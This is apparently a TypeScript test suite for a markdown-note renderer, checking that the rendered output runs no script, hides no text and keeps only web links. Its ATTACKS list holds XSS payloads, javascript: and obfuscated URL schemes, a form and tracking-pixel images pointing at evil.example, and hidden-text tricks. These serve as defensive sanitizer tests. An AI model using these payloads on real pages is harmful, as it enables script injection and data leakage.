import fc from "fast-check";
import type { Element, ElementContent, Root } from "hast";
import { describe, expect, test } from "vitest";
import { shownNote } from "../../src/review/shown-note.ts";
import { hasHidden } from "../../src/text/visible.ts";

function elementsOf(tree: Root | Element): Element[] {
  return tree.children.flatMap((child) =>
    child.type === "element" ? [child, ...elementsOf(child)] : [],
  );
}

function textOf(tree: Root | Element): string {
  return (tree.children as ElementContent[])
    .map((child) => (child.type === "text" ? child.value : textOf(child as Element)))
    .join("");
}

/** What a reader sees, or sees when pointing at it. */
function readable(tree: Root): string {
  const titles = elementsOf(tree).map(({ properties }) => String(properties.title ?? ""));
  return [textOf(tree), ...titles].join(" ");
}

const ALLOWED =
  /^(?:h[1-6]|p|[uo]l|li|blockquote|pre|code|em|strong|del|sup|br|hr|a|span|div|input|table|thead|tbody|tr|t[hd]|ins)$/;

/** Ways to act on the page, or to hide a word from whoever reads it; each with the word WORD in it. */
const ATTACKS: readonly string[] = [
  "<script>alert('WORD')</script>",
  "<img src=x onerror=alert('WORD')>",
  "text <b onclick=alert(1)>WORD</b> text",
  "<!-- WORD -->",
  "text <!-- WORD --> text",
  "<style>body{display:none}/* WORD */</style>",
  "<iframe srcdoc='<script>WORD</script>'></iframe>",
  "<form action=//evil.example><input value=WORD></form>",
  "<details><summary>x</summary>WORD</details>",
  "[WORD](javascript:alert(1))",
  "[x](javascript:alert('WORD'))",
  "[x](JaVaScRiPt:WORD)",
  "[x](&#106;avascript:WORD)",
  "[x](vbscript:WORD)",
  "[x](data:text/html,WORD)",
  "[x](//evil.example/WORD)",
  '[x](https://example.org "WORD")',
  "<javascript:WORD>",
  "[x][WORD]\n\n[WORD]: javascript:alert(1)",
  '[x]: https://example.org "WORD"',
  "![WORD](https://evil.example/pixel.png)",
  "![x](https://evil.example/WORD.png)",
  "![x](data:image/svg+xml,WORD)",
  "![x][WORD]\n\n[WORD]: https://evil.example/pixel.png",
  "[^a]: WORD in a footnote that nothing refers to",
  "```js WORD\ncode\n```",
  "```\nWORD\n```",
  "`WORD`",
  "WO&#x200b;RD WORD",
  "WORD\u202edrow\u202c\u200b\u2066",
  "# WORD\n\n> WORD\n\n- [ ] WORD\n\n| WORD | b |\n| --- | :-: |\n| 1 | 2 |",
  "| a |\n| --- |\n| 1 | WORD |",
  "$WORD$ %% WORD %% ==WORD== [[WORD]]",
  '<a href="javascript:alert(1)" id="page" name="WORD">x</a>',
];

describe("a note on the page", () => {
  test.each(ATTACKS)("does nothing and hides nothing: %s", (attack) => {
    assertSafe(attack.replaceAll("WORD", "word1"), ["word1"]);
  });

  test("does nothing and hides nothing, whatever stands beside what", () => {
    const note = fc.array(
      fc.record({ attack: fc.constantFrom(...ATTACKS), glue: fc.constantFrom("\n\n", " ", "\n") }),
      { maxLength: 6 },
    );
    fc.assert(
      fc.property(note, (parts) => {
        const text = parts
          .map(({ attack, glue }, index) => `${attack.replaceAll("WORD", `word${index}x`)}${glue}`)
          .join("");
        assertSafe(
          text,
          parts.map((_, index) => `word${index}x`),
        );
      }),
      { numRuns: 300 },
    );
  });

  test("is its source where it is too deep to be parsed on the spot", () => {
    const text = `${"> ".repeat(60)}word`;
    const tree = shownNote(text, []);
    expect(elementsOf(tree).map(({ tagName }) => tagName)).toEqual(["pre"]);
    expect(textOf(tree)).toBe(text);
  });

  test("keeps a link to the web, and tells where any other would lead", () => {
    const tree = shownNote("[a](https://example.org/a) [b](../b.md) [c](javascript:x)", []);
    expect(
      elementsOf(tree).map(({ tagName, properties }) => [
        tagName,
        properties.href,
        properties.title,
      ]),
    ).toEqual([
      ["p", undefined, undefined],
      ["a", "https://example.org/a", "https://example.org/a"],
      ["span", undefined, "../b.md"],
      ["span", undefined, "javascript:x"],
      ["code", undefined, undefined],
    ]);
  });

  test("numbers its footnotes, and names those that a change brings", () => {
    const text = "One.[^a] Two.[^b]\n\n[^a]: A\n[^b]: B\n";
    const start = text.indexOf("[^b]");
    const tree = shownNote(text, [{ range: { start, end: start + 4 }, removed: "", role: "own" }]);
    expect(textOf(tree)).toMatch(/One\.1 Two\.2 b\s+1 A\s+2 B/);
  });
});

describe("what changes in a note", () => {
  const marksOf = (tree: Root) =>
    elementsOf(tree)
      .filter(({ tagName }) => tagName === "ins" || tagName === "del")
      .map((each) => [each.tagName, each.properties.className, textOf(each)]);
  const markAt = (text: string, words: string, removed = "") => {
    const start = text.indexOf(words);
    return { range: { start, end: start + words.length }, removed, role: "own" } as const;
  };

  test.each([
    ["in a paragraph", "One. Two. Three.", "Two."],
    ["in a list item that goes on in a second line", "- One\n  and. Two. Three.", "Two."],
    ["behind an escape", "\\*One\\*. Two. Three.", "Two."],
    ["in a quote over two lines", "> One\n> more. Two. Three.", "Two."],
    ["in the front matter", "---\ntitle: x\nsources: Two.\n---\n\n# X\n", "Two."],
  ])("is marked to the letter %s", (_, text, words) => {
    expect(marksOf(shownNote(text, [markAt(text, words)]))).toEqual([["ins", ["own"], words]]);
  });

  test("is marked with all of its text where the source reads otherwise", () => {
    const text = "One &amp; Two. Three.";
    expect(marksOf(shownNote(text, [markAt(text, "Three.")]))).toEqual([
      ["ins", ["own"], "One & Two. Three."],
    ]);
  });

  test("shows what it takes out before what it puts in", () => {
    const text = "It is 0.21 there.";
    expect(marksOf(shownNote(text, [markAt(text, "0.21", "0.38")]))).toEqual([
      ["del", ["own"], "0.38"],
      ["ins", ["own"], "0.21"],
    ]);
  });

  test("shows what it takes out where nothing comes in its place", () => {
    const mark = { range: { start: 4, end: 4 }, removed: "Gone.", role: "own" } as const;
    expect(marksOf(shownNote("One.\n", [mark]))).toEqual([["del", ["own"], "Gone."]]);
    expect(marksOf(shownNote("", [{ ...mark, range: { start: 0, end: 0 } }]))).toHaveLength(1);
  });
});

function assertSafe(text: string, words: readonly string[]): void {
  const tree = shownNote(text, []);
  for (const { tagName, properties } of elementsOf(tree)) {
    expect(tagName).toMatch(ALLOWED);
    for (const [name, value] of Object.entries(properties)) {
      expect(name).toMatch(/^(?:className|title|href|start|align|checked|disabled|type)$/);
      if (name === "href") expect(value).toMatch(/^https?:\/\//i);
      if (name === "title") expect(hasHidden(String(value))).toBe(false);
    }
  }
  expect(hasHidden(textOf(tree))).toBe(false);
  const seen = readable(tree);
  for (const word of words) expect(seen).toContain(word);
}
